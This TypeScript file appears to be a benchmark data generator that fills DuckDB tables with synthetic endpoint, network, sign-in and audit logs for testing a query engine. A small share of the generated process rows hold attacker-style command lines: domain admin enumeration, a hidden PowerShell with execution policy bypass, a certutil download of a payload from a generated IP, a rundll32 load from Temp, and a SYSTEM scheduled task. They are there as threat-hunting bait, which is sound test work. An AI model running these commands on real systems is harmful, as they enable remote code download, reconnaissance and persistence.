import type { DuckDBConnection } from '@duckdb/node-api';
import type { CachedTable } from '../../src/engines/duckdb/load/catalog';
import { createTableSql } from '../../src/engines/duckdb/load/store-rows';
import { dateToTicks } from '../../src/engines/duckdb/ticks';
import type { Column } from '../../src/ports/query-engine';

/** The end of the year that the tables cover: what queries take for now. */
export const asOf = new Date('2026-11-01T00:00:00Z');
const year = 365n * 864_000_000_000n;

interface BenchTable {
  name: string;
  /** Each column with SQL of its value for row `i` of `n`; `r(k, m)` is a number below m that depends on i and k alone. */
  columns: (Column & { sql: string })[];
}

/** A number below `m` that looks random and is the same in every run. */
function r(salt: number, m: number, of = 'i'): string {
  return `(hash(${of} * 31 + ${salt}) % ${m})::BIGINT`;
}

function oneOf(salt: number, values: string[], of = 'i'): string {
  return `[${values.map((value) => `'${value}'`).join(', ')}][1 + ${r(salt, values.length, of)}]`;
}

const device = (of: string) => `'ws-' || lpad(${r(1, 5000, of)}::VARCHAR, 5, '0') || '.corp.example'`;
const processId = (of: string) => r(2, 60_000, of);
const user = `'user' || ${r(3, 20_000)} || '@example.org'`;
const address = (salt: number) =>
  `${r(salt, 223)} + 1 || '.' || ${r(salt + 1, 256)} || '.' || ${r(salt + 2, 4)} || '.' || ${r(salt + 3, 256)}`;

const programs = [
  'svchost.exe',
  'chrome.exe',
  'msedge.exe',
  'Teams.exe',
  'powershell.exe',
  'cmd.exe',
  'rundll32.exe',
  'conhost.exe',
  'backgroundTaskHost.exe',
  'RuntimeBroker.exe',
  'SearchProtocolHost.exe',
  'wmiprvse.exe',
  'OUTLOOK.EXE',
  'EXCEL.EXE',
  'net.exe',
  'certutil.exe',
];

/** Common programs with long arguments; one in a thousand is what a hunter looks for. */
const commandLine = `CASE
  WHEN ${r(5, 1000)} = 0 THEN [
    'cmd.exe /c "whoami /all & net group ""Domain Admins"" /domain > C:\\Users\\Public\\out' || ${r(6, 900)} || '.txt"',
    'powershell.exe -NoProfile -ExecutionPolicy Bypass -WindowStyle Hidden -EncodedCommand ' || base64(md5(i::VARCHAR)::BLOB) || base64(md5(i::VARCHAR || 'x')::BLOB),
    'certutil.exe -urlcache -split -f http://' || ${address(7)} || '/payload' || ${r(8, 90)} || '.bin C:\\Windows\\Temp\\p.bin',
    'rundll32.exe C:\\Users\\user' || ${r(9, 800)} || '\\AppData\\Local\\Temp\\a' || ${r(10, 70)} || '.dll,Start',
    'schtasks.exe /Create /SC MINUTE /TN "Updater ' || ${r(11, 40)} || '" /TR "C:\\ProgramData\\u.exe" /RU SYSTEM /F'][1 + ${r(12, 5)}]
  WHEN ${r(13, 10)} < 4 THEN '"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe" --type=renderer --field-trial-handle=' || ${r(14, 99_999)} || ',i,' || ${r(15, 9_999_999)} || ',262144 --lang=en-US --device-scale-factor=1 --num-raster-threads=4 --renderer-client-id=' || ${r(16, 500)} || ' --time-ticks-at-unix-epoch=-17' || ${r(17, 9_999_999)} || ' /prefetch:1'
  WHEN ${r(13, 10)} < 7 THEN 'C:\\Windows\\System32\\svchost.exe -k netsvcs -p -s ' || ${oneOf(18, ['Schedule', 'BITS', 'wuauserv', 'Themes', 'ProfSvc', 'UserManager', 'Winmgmt'])}
  WHEN ${r(13, 10)} < 9 THEN '"C:\\Windows\\System32\\backgroundTaskHost.exe" -ServerName:App.AppX' || md5((i % 40000)::VARCHAR) || '.mca'
  ELSE '\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1 --who ami' || ${r(19, 100_000)} END`;

const time = (span: bigint, from: bigint) => `${from} + i * (${span} // n) + ${r(20, 1000)}`;

/** Four tables of `n` rows each over one year, in the order of time, as one log file of each would be stored. */
function benchTables(): BenchTable[] {
  const from = dateToTicks(asOf) - year;
  const generated = { name: 'TimeGenerated', type: 'datetime', sql: time(year, from) } as const;
  return [
    {
      name: 'DeviceProcessEvents',
      columns: [
        generated,
        { name: 'DeviceId', type: 'string', sql: `md5(${r(1, 5000)}::VARCHAR)` },
        { name: 'DeviceName', type: 'string', sql: device('i') },
        { name: 'ActionType', type: 'string', sql: `'ProcessCreated'` },
        {
          name: 'FileName',
          type: 'string',
          sql: `CASE WHEN ${r(21, 5000)} = 0 THEN 'tool' || ${r(22, 1900)} || '.exe' ELSE ${oneOf(23, programs)} END`,
        },
        {
          name: 'FolderPath',
          type: 'string',
          sql: `'C:\\' || ${oneOf(24, ['Windows\\System32', 'Program Files', 'ProgramData', 'Users\\Public'])} || '\\f' || ${r(25, 3000)} || '.exe'`,
        },
        { name: 'SHA1', type: 'string', sql: `substr(sha256(${r(26, 6000)}::VARCHAR), 1, 40)` },
        { name: 'ProcessCommandLine', type: 'string', sql: commandLine },
        { name: 'ProcessId', type: 'long', sql: processId('i') },
        { name: 'AccountName', type: 'string', sql: `'user' || ${r(3, 20_000)}` },
        { name: 'AccountDomain', type: 'string', sql: `'corp'` },
        { name: 'InitiatingProcessFileName', type: 'string', sql: oneOf(27, programs) },
        { name: 'InitiatingProcessId', type: 'long', sql: r(28, 60_000) },
        {
          name: 'InitiatingProcessCommandLine',
          type: 'string',
          sql: `'C:\\Windows\\' || ${oneOf(27, programs)} || ' -p ' || ${r(29, 2000)}`,
        },
      ],
    },
    {
      name: 'DeviceNetworkEvents',
      columns: [
        generated,
        { name: 'DeviceId', type: 'string', sql: `md5(${r(1, 5000, 'p')}::VARCHAR)` },
        { name: 'DeviceName', type: 'string', sql: device('p') },
        {
          name: 'ActionType',
          type: 'string',
          sql: oneOf(30, [
            'ConnectionSuccess',
            'ConnectionSuccess',
            'ConnectionSuccess',
            'ConnectionFailed',
            'InboundConnectionAccepted',
          ]),
        },
        { name: 'RemoteIP', type: 'string', sql: address(31) },
        {
          name: 'RemotePort',
          type: 'int',
          sql: `[443, 443, 443, 80, 53, 53, 445, 3389, 8080, 4444][1 + ${r(35, 10)}]`,
        },
        {
          name: 'RemoteUrl',
          type: 'string',
          sql: `CASE WHEN ${r(36, 3)} = 0 THEN 'https://cdn' || ${r(37, 4000)} || '.example.net/a/b' ELSE '' END`,
        },
        { name: 'LocalIP', type: 'string', sql: `'10.0.' || ${r(38, 256)} || '.' || ${r(39, 256)}` },
        { name: 'Protocol', type: 'string', sql: oneOf(40, ['Tcp', 'Tcp', 'Udp']) },
        { name: 'InitiatingProcessFileName', type: 'string', sql: oneOf(23, programs, 'p') },
        { name: 'InitiatingProcessId', type: 'long', sql: processId('p') },
      ],
    },
    {
      name: 'SigninLogs',
      columns: [
        generated,
        { name: 'UserPrincipalName', type: 'string', sql: user },
        {
          name: 'AppDisplayName',
          type: 'string',
          sql: oneOf(41, ['Office 365', 'Azure Portal', 'Teams', 'Exchange', 'Graph Explorer', 'Azure CLI']),
        },
        { name: 'IPAddress', type: 'string', sql: address(42) },
        {
          name: 'ResultType',
          type: 'string',
          sql: `CASE WHEN ${r(46, 10)} < 8 THEN '0' ELSE ${oneOf(47, ['50126', '50074', '53003', '50053'])} END`,
        },
        {
          name: 'Location',
          type: 'string',
          sql: oneOf(48, ['DE', 'US', 'GB', 'FR', 'IN', 'BR', 'RU', 'CN', 'NG', 'AU']),
        },
        {
          name: 'UserAgent',
          type: 'string',
          sql: `'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/1' || ${r(49, 30)} || '.0.0.0 Safari/537.36'`,
        },
        { name: 'DurationMs', type: 'long', sql: r(50, 5000) },
        {
          name: 'AuthenticationDetails',
          type: 'string',
          sql: `'[{"authenticationMethod":"' || ${oneOf(51, ['Password', 'FIDO2', 'Phone'])} || '","succeeded":' || ${oneOf(52, ['true', 'true', 'false'])} || ',"step":' || ${r(53, 40)} || '}]'`,
        },
      ],
    },
    {
      name: 'AuditLogs',
      columns: [
        generated,
        {
          name: 'OperationName',
          type: 'string',
          sql: oneOf(54, [
            'Update user',
            'Add member to role',
            'Add member to group',
            'Consent to application',
            'Reset password',
            'Update device',
          ]),
        },
        { name: 'Category', type: 'string', sql: oneOf(55, ['UserManagement', 'RoleManagement', 'GroupManagement']) },
        { name: 'Result', type: 'string', sql: oneOf(56, ['success', 'success', 'failure']) },
        {
          name: 'InitiatedBy',
          type: 'dynamic',
          sql: `('{"user":{"userPrincipalName":"' || ${user} || '","ipAddress":"' || ${address(57)} || '","roles":[]}}')::JSON`,
        },
        {
          name: 'TargetResources',
          type: 'dynamic',
          sql: `('[{"type":"User","displayName":"' || ${r(58, 9000)} || '","modifiedProperties":[]},{"type":"' || ${oneOf(59, ['Role', 'Group'])} || '","displayName":"' || ${r(60, 300)} || '"}]')::JSON`,
        },
      ],
    },
  ];
}

/** Fills the tables in the stored form, in the database that is in use, and says what the engine's catalog would. */
export async function generateTables(connection: DuckDBConnection, rows: number): Promise<CachedTable[]> {
  const made: CachedTable[] = [];
  // Rows of a table can be read by all threads, those of range() by one.
  await connection.run(
    `CREATE TEMP TABLE numbers AS SELECT range AS i, ${rows}::BIGINT AS n, (hash(range) % ${rows})::BIGINT AS p FROM range(${rows})`,
  );
  for (const [at, { name, columns }] of benchTables().entries()) {
    const table = tableOf(name, at, columns, rows);
    await connection.run(`DROP TABLE IF EXISTS ${table.sqlName}`);
    await connection.run(createTableSql(table.sqlName, columns));
    await connection.run(
      `INSERT INTO "${table.sqlName}" SELECT ${columns.map((column) => column.sql).join(', ')}, 1
       FROM numbers`,
    );
    made.push(table);
  }
  await connection.run('DROP TABLE temp.numbers');
  return made;
}

/** The tables of a database that `generateTables` filled before. */
export function generatedTables(rows: number): CachedTable[] {
  return benchTables().map(({ name, columns }, at) => tableOf(name, at, columns, rows));
}

function tableOf(name: string, at: number, columns: Column[], rows: number): CachedTable {
  return {
    name,
    sqlName: `t${at + 1}`,
    columns: columns.map(({ name: column, type }) => ({ name: column, type })),
    rows,
  };
}
